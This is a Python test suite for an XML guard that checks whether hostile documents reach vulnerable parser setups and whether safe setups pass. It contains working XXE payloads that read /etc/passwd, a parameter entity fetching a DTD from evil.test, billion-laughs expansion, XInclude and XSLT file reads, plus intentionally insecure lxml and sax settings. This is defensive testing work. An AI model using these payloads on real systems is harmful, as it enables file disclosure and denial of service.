"""Entities in XML: hostile documents before each parser, and what is fine."""

from __future__ import annotations

import base64
import gzip
import json
from pathlib import Path
from urllib.parse import quote

from hypothesis import given
from hypothesis import strategies as st

from casemate.guard.markup.documents import judging
from casemate.guard.markup.entities import ALL, EXPANDING, Reading
from casemate.guard.origin import Origin, Span
from support.guard_cases import Cases, assert_blocked, assert_passes

PRELOAD = (
    "lxml.etree",
    "lxml.objectify",
    "xml.etree.ElementTree",
    "xml.dom.minidom",
    "xml.dom.pulldom",
    "xml.sax",
    "defusedxml.ElementTree",
    "defusedxml.minidom",
    "defusedxml.sax",
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
PARAMETER = (
    '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.test/x.dtd"> %d;]>\n<r>text of the document</r>'
)
LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><r>&c;</r>'
)
PLAIN = "<order id='7'><name>Ada &amp; Co</name><![CDATA[<!ENTITY in text>]]></order>"
TYPED = "<!DOCTYPE order>\n<order><name>Ada</name></order>"
PUBLIC = (
    '<!DOCTYPE note SYSTEM "note.dtd"><note><to>Ada</to><body>a longer text &lt;b&gt;</body></note>'
)


def b64(data: str | bytes) -> str:
    """Encode."""
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


ET = "import xml.etree.ElementTree as ET\n"
LX = "from lxml import etree\n"
VULNERABLE: Cases = {
    "fromstring": (ET + "return ET.fromstring(event['xml']).text", {"xml": LAUGHS}),
    "XML": (ET + "return ET.XML(event['xml']).text", {"xml": LAUGHS}),
    "bytes": (ET + "return ET.fromstring(event['xml'].encode()).text", {"xml": LAUGHS}),
    "fromstringlist": (ET + "return ET.fromstringlist([event['xml']]).text", {"xml": LAUGHS}),
    "parse of a file in memory": (
        ET + "import io\nreturn ET.parse(io.StringIO(event['xml'])).getroot().text",
        {"xml": LAUGHS},
    ),
    "parse of bytes in memory": (
        ET + "import io\nreturn ET.parse(io.BytesIO(event['xml'].encode())).getroot().text",
        {"xml": LAUGHS},
    ),
    "parse of a file": (
        ET + "import os, tempfile\n"
        "with tempfile.NamedTemporaryFile('w', suffix='.xml') as f:\n"
        "    f.write(event['xml'])\n    f.flush()\n    return ET.parse(f.name).getroot().text",
        {"xml": LAUGHS},
    ),
    "iterparse": (
        ET + "import io\nreturn [e.text for _, e in ET.iterparse(io.BytesIO(event['x'].encode()))]",
        {"x": LAUGHS},
    ),
    "feed": (
        ET + "p = ET.XMLParser()\np.feed(event['xml'])\nreturn p.close().text",
        {"xml": LAUGHS},
    ),
    "pull": (
        ET + "p = ET.XMLPullParser()\np.feed(event['xml'])\nreturn list(p.read_events())",
        {"xml": LAUGHS},
    ),
    "minidom": (
        "from xml.dom import minidom\nreturn minidom.parseString(event['xml']).toxml()",
        {"xml": LAUGHS},
    ),
    "minidom, file": (
        "import io\nfrom xml.dom.minidom import parse\n"
        "return parse(io.StringIO(event['xml'])).toxml()",
        {"xml": LAUGHS},
    ),
    "pulldom": (
        "from xml.dom import pulldom\nreturn [str(e) for e in pulldom.parseString(event['xml'])]",
        {"xml": LAUGHS},
    ),
    "sax": (
        "import xml.sax\nxml.sax.parseString(event['xml'].encode(), xml.sax.ContentHandler())",
        {"xml": LAUGHS},
    ),
    "sax with types from elsewhere": (
        "import io, xml.sax\nfrom xml.sax.handler import feature_external_ges\n"
        "p = xml.sax.make_parser()\np.setFeature(feature_external_ges, True)\n"
        "p.parse(io.StringIO(event['xml']))",
        {"xml": PUBLIC},
    ),
    "expat": (
        "from xml.parsers import expat\np = expat.ParserCreate()\n"
        "return p.Parse(event['xml'], True)",
        {"xml": LAUGHS},
    ),
    "lxml": (LX + "return etree.fromstring(event['xml']).text", {"xml": LAUGHS}),
    "lxml, bytes": (LX + "return etree.XML(event['xml'].encode()).text", {"xml": LAUGHS}),
    "lxml, parser": (
        LX + "p = etree.XMLParser(resolve_entities=True, no_network=False)\n"
        "return etree.fromstring(event['xml'], p).text",
        {"xml": PARAMETER},
    ),
    "lxml, named parser": (
        LX + "return etree.fromstring(event['xml'], parser=etree.XMLParser(load_dtd=True)).text",
        {"xml": PUBLIC},
    ),
    "lxml, parser that reads types, entities kept": (
        LX + "p = etree.XMLParser(resolve_entities=False, load_dtd=True, no_network=False)\n"
        "return etree.fromstring(event['xml'], p).text",
        {"xml": PARAMETER},
    ),
    "lxml, file": (
        LX + "import io\nreturn etree.parse(io.BytesIO(event['xml'].encode())).getroot().text",
        {"xml": LAUGHS},
    ),
    "lxml, feed": (
        LX + "p = etree.XMLParser()\np.feed(event['xml'])\nreturn p.close().text",
        {"xml": LAUGHS},
    ),
    "lxml, iterparse": (
        LX
        + "import io\nreturn [e.text for _, e in etree.iterparse(io.BytesIO(event['x'].encode()))]",
        {"x": LAUGHS},
    ),
    "lxml, objectify": (
        "from lxml import objectify\nreturn objectify.fromstring(event['xml']).text",
        {"xml": LAUGHS},
    ),
    "lxml, include": (
        LX + "t = etree.fromstring(event['xml']).getroottree()\nt.xinclude()\n"
        "return etree.tostring(t)",
        {
            "xml": '<r xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<xi:include href="/etc/passwd" parse="text"/></r>'
        },
    ),
    "lxml, stylesheet": (
        LX + "t = etree.XSLT(etree.fromstring(event['xsl']))\nreturn str(t(etree.XML('<a/>')))",
        {
            "xsl": '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            '<xsl:template match="/"><xsl:value-of select="document(\'/x\')"/></xsl:template>'
            "</xsl:stylesheet>"
        },
    ),
    "JSON in a string": (
        ET + "import json\nreturn ET.fromstring(json.loads(event['body'])['doc']).text",
        {"body": json.dumps({"doc": LAUGHS})},
    ),
    "base64": (
        LX + "import base64\nreturn etree.fromstring(base64.b64decode(event['body'])).text",
        {"body": b64(LAUGHS), "isBase64Encoded": True},
    ),
    "URL": (
        ET + "from urllib.parse import unquote\nreturn ET.fromstring(unquote(event['x'])).text",
        {"x": quote(LAUGHS)},
    ),
    "form": (
        ET + "from urllib.parse import parse_qs\n"
        "return ET.fromstring(parse_qs(event['body'])['xml'][0]).text",
        {"body": "a=1&xml=" + quote(LAUGHS, safe="")},
    ),
    "gzip": (
        ET + "import base64, gzip\n"
        "return ET.fromstring(gzip.decompress(base64.b64decode(event['body']))).text",
        {"body": b64(gzip.compress(LAUGHS.encode(), mtime=0))},
    ),
    "UTF-16": (
        ET + "import base64\nreturn ET.fromstring(base64.b64decode(event['body'])).text",
        {"body": b64(LAUGHS.encode("utf-16"))},
    ),
    "put around": (
        ET + "doc = '<?xml version=\"1.0\"?>' + event['type'] + '<r>' + event['text'] + '</r>'\n"
        "return ET.fromstring(doc).text",
        {"type": '<!DOCTYPE r [<!ENTITY b "xx"><!ENTITY a "&b;&b;">]>', "text": "&a;"},
    ),
    "stripped": (
        ET + "return ET.fromstring(event['xml'].strip()).text",
        {"xml": f"\n {LAUGHS} \n"},
    ),
    "queue": (
        LX + "return [etree.fromstring(r['body']).text for r in event['Records']]",
        {"Records": [{"body": LAUGHS}]},
    ),
    "lxml, told to read": (
        LX + "p = etree.XMLParser(resolve_entities=True)\n"
        "return etree.fromstring(event['xml'], p).text",
        {"xml": XXE},
    ),
    "lxml, told to read, iterparse": (
        LX + "import io\nreturn [e.text for _, e in "
        "etree.iterparse(io.BytesIO(event['x'].encode()), resolve_entities=True)]",
        {"x": XXE},
    ),
    "lxml, told to read, feed": (
        LX + "p = etree.XMLParser(resolve_entities=True)\np.feed(event['xml'][:40])\n"
        "p.feed(event['xml'][40:])\nreturn p.close().text",
        {"xml": XXE},
    ),
    "lxml, told to read, default": (
        LX + "etree.set_default_parser(etree.XMLParser(resolve_entities=True))\n"
        "return etree.fromstring(event['xml']).text",
        {"xml": XXE},
    ),
    "expat with a handler that reads": (
        "from xml.parsers import expat\np = expat.ParserCreate()\n"
        "p.ExternalEntityRefHandler = lambda *a: 1\nreturn p.Parse(event['xml'], True)",
        {"xml": XXE},
    ),
    "one long entity, many references": (
        ET + "return len(ET.fromstring(event['xml']).text)",
        {"xml": f'<!DOCTYPE r [<!ENTITY a "{"x" * 8000}">]><r>{"&a;" * 400}</r>'},
    ),
}


SAFE: Cases = {
    "plain": (ET + "return ET.fromstring(event['xml']).findtext('name')", {"xml": PLAIN}),
    "plain, lxml": (LX + "return etree.fromstring(event['xml']).findtext('name')", {"xml": PLAIN}),
    "plain, minidom": (
        "from xml.dom import minidom\nreturn minidom.parseString(event['xml']).toxml()",
        {"xml": PLAIN},
    ),
    "plain, sax": (
        "import xml.sax\nxml.sax.parseString(event['xml'].encode(), xml.sax.ContentHandler())",
        {"xml": PLAIN},
    ),
    "plain, pulldom": (
        "from xml.dom import pulldom\nreturn [e for e, _ in pulldom.parseString(event['xml'])]",
        {"xml": PLAIN},
    ),
    "plain, expat": (
        "from xml.parsers import expat\nreturn expat.ParserCreate().Parse(event['xml'], True)",
        {"xml": PLAIN},
    ),
    "a type without declarations": (
        ET + "return ET.fromstring(event['xml'])[0].text",
        {"xml": TYPED},
    ),
    "a type without declarations, lxml": (
        LX + "return etree.fromstring(event['xml'])[0].text",
        {"xml": TYPED},
    ),
    "a type elsewhere, not read": (
        ET + "return ET.fromstring(event['xml']).findtext('to')",
        {"xml": PUBLIC},
    ),
    "a type elsewhere, not read by lxml": (
        LX + "return etree.fromstring(event['xml'].encode()).findtext('to')",
        {"xml": PUBLIC},
    ),
    "lxml keeps entities": (
        LX + "p = etree.XMLParser(resolve_entities=False, no_network=True)\n"
        "return etree.fromstring(event['xml'].encode(), p).tag",
        {"xml": XXE},
    ),
    "lxml keeps entities, named": (
        LX + "import io\nreturn etree.parse(io.BytesIO(event['xml'].encode()), "
        "parser=etree.XMLParser(resolve_entities=False)).getroot().tag",
        {"xml": XXE},
    ),
    "lxml keeps entities by default": (
        LX + "etree.set_default_parser(etree.XMLParser(resolve_entities=False))\n"
        "return etree.fromstring(event['xml'].encode()).tag",
        {"xml": XXE},
    ),
    "defusedxml, plain": (
        "from defusedxml.ElementTree import fromstring\nreturn fromstring(event['xml']).tag",
        {"xml": PLAIN},
    ),
    "defusedxml refuses": (
        "from defusedxml.ElementTree import fromstring\n"
        "from defusedxml import DefusedXmlException\n"
        "try:\n    return fromstring(event['xml']).tag\nexcept DefusedXmlException:\n"
        "    return 'refused'",
        {"xml": XXE},
    ),
    "defusedxml refuses, parse": (
        "import io, defusedxml.ElementTree as ET\ntry:\n"
        "    return ET.parse(io.StringIO(event['xml'])).getroot().tag\n"
        "except Exception as e:\n    return type(e).__name__",
        {"xml": LAUGHS},
    ),
    "defusedxml refuses, minidom": (
        "import defusedxml.minidom\ntry:\n    return defusedxml.minidom.parseString(event['xml'])\n"
        "except Exception as e:\n    return type(e).__name__",
        {"xml": XXE},
    ),
    "defusedxml refuses, sax": (
        "import defusedxml.sax, xml.sax\ntry:\n"
        "    defusedxml.sax.parseString(event['xml'].encode(), xml.sax.ContentHandler())\n"
        "except Exception as e:\n    return type(e).__name__",
        {"xml": LAUGHS},
    ),
    "refused by the code": (
        ET + "if '<!DOCTYPE' in event['xml'] or '<!ENTITY' in event['xml']:\n    return 'refused'\n"
        "return ET.fromstring(event['xml']).tag",
        {"xml": XXE},
    ),
    "document of the code": (
        ET + "D = '<!DOCTYPE r [<!ENTITY a \"xx\">]><r>&a;</r>'\n"
        "return ET.fromstring(D).text + event['x']",
        {"x": "hello"},
    ),
    "value put in, escaped": (
        ET + "from xml.sax.saxutils import escape\n"
        "return ET.fromstring('<r>' + escape(event['x']) + '</r>').text",
        {"x": XXE},
    ),
    "tree made of values": (
        ET + "e = ET.Element('r')\ne.text = event['x']\nreturn ET.tostring(e)",
        {"x": XXE},
    ),
    "HTML": (
        "from lxml import html\nreturn html.fromstring(event['h']).text_content()",
        {"h": "<!DOCTYPE html PUBLIC '-//W3C//DTD HTML 4.01//EN'><html><p>a</p></html>"},
    ),
    "feed in pieces": (
        ET + "p = ET.XMLPullParser(['end'])\nfor piece in (event['x'][:20], event['x'][20:]):\n"
        "    p.feed(piece)\nreturn [e.tag for _, e in p.read_events()]",
        {"x": PLAIN},
    ),
    "iterparse": (
        LX
        + "import io\nreturn [e.tag for _, e in etree.iterparse(io.BytesIO(event['x'].encode()))]",
        {"x": PLAIN},
    ),
    "base64": (
        ET + "import base64\nreturn ET.fromstring(base64.b64decode(event['b'])).tag",
        {"b": b64(PLAIN)},
    ),
    "a file, which ElementTree does not read": (
        ET
        + "try:\n    return ET.fromstring(event['x']).text\nexcept ET.ParseError:\n    return 'refused'",
        {"x": XXE},
    ),
    "a file, which minidom leaves out": (
        "from xml.dom import minidom\nreturn minidom.parseString(event['x']).toxml()",
        {"x": XXE},
    ),
    "a file, which sax leaves out": (
        "import xml.sax\nxml.sax.parseString(event['x'], xml.sax.ContentHandler())",
        {"x": XXE},
    ),
    "a file, which sax is told to leave out": (
        "import io, xml.sax\nfrom xml.sax.handler import feature_external_ges, feature_external_pes\np = xml.sax.make_parser()\np.setFeature(feature_external_ges, False)\np.setFeature(feature_external_pes, False)\np.parse(io.StringIO(event['x']))",
        {"x": XXE},
    ),
    "a file, which expat skips": (
        "from xml.parsers import expat\nreturn expat.ParserCreate().Parse(event['x'], True)",
        {"x": XXE},
    ),
    "a file, which lxml does not read by itself": (
        LX
        + "try:\n    return etree.fromstring(event['x'].encode()).text\nexcept etree.XMLSyntaxError:\n    return 'refused'",
        {"x": XXE},
    ),
    "a file, internal entities alone": (
        LX
        + "p = etree.XMLParser(resolve_entities='internal')\ntry:\n    return etree.fromstring(event['x'].encode(), p).text\nexcept etree.XMLSyntaxError:\n    return 'refused'",
        {"x": XXE},
    ),
    "a URL without a network": (
        LX
        + "p = etree.XMLParser(load_dtd=True, resolve_entities=False, no_network=True)\ntry:\n    return etree.fromstring(event['x'], p).tag\nexcept etree.XMLSyntaxError:\n    return 'refused'",
        {"x": PARAMETER},
    ),
    "one entity, named once": (
        ET + "return ET.fromstring(event['x']).text",
        {"x": '<!DOCTYPE r [<!ENTITY co "Ada &amp; Co"><!ENTITY f "of &co;">]><r>&f; &co;</r>'},
    ),
    "expat whose handler refuses": (
        "from xml.parsers import expat\ndef refuse(*a): raise ValueError\np = expat.ParserCreate()\np.EntityDeclHandler = refuse\ntry:\n    p.Parse(event['x'], True)\nexcept ValueError:\n    return 'refused'",
        {"x": LAUGHS},
    ),
    "stylesheet of the code": (
        LX + 'X = etree.XSLT(etree.XML(\'<xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        "<b/></xsl:template></xsl:stylesheet>'))\nreturn str(X(etree.XML(event['x'])))",
        {"x": PLAIN},
    ),
}


def test_documents_with_entities_are_blocked(tmp_path: Path) -> None:
    assert_blocked(tmp_path, VULNERABLE, {"xml"}, PRELOAD)


def test_plain_documents_and_safe_parsers_pass(tmp_path: Path) -> None:
    assert_passes(tmp_path, SAFE, PRELOAD)


BEFORE = st.lists(
    st.sampled_from([" ", "\n", "<!-- a -->", "<!--<r>-->", "<?p <r> ?>", "<?xml version='1.0'?>"])
)


READINGS = st.sampled_from(
    [
        (EXPANDING, "<!ENTITY a 'x'><!ENTITY b '&a;&a;'>"),
        (ALL, "<!ENTITY a SYSTEM 'file:///etc/passwd'>"),
        (ALL, "<!ENTITY % a PUBLIC '-//x' 'http://evil.test/x.dtd'>"),
        (ALL, "<!ENTITY % a '&#60;!ENTITY b SYSTEM \"x\">'>"),
        (Reading(expands=False, types=True), "<!ENTITY % a SYSTEM 'x.dtd'>"),
        (EXPANDING, "<!ENTITY a '" + "x" * 9000 + "'>"),
    ]
)


@given(BEFORE, st.text(max_size=40), READINGS)
def test_a_declaration_is_found_wherever_it_is(
    before: list[str], within: str, what: tuple[Reading, str]
) -> None:
    reading, declared = what
    text = f"{''.join(before)}<!DOCTYPE r [{within}{declared}]><r/>"
    spans = [Span(0, len(text), Origin("event", ()), exact=True)]
    assert judging(reading)(text, spans) is not None
    assert judging(reading, whole=False)(text, spans) is not None


@given(st.text(alphabet=st.characters(exclude_characters="\x00!"), max_size=80))
def test_text_without_declarations_passes(text: str) -> None:
    spans = [Span(0, len(text), Origin("event", ()), exact=True)]
    assert judging(ALL)(text, spans) is None
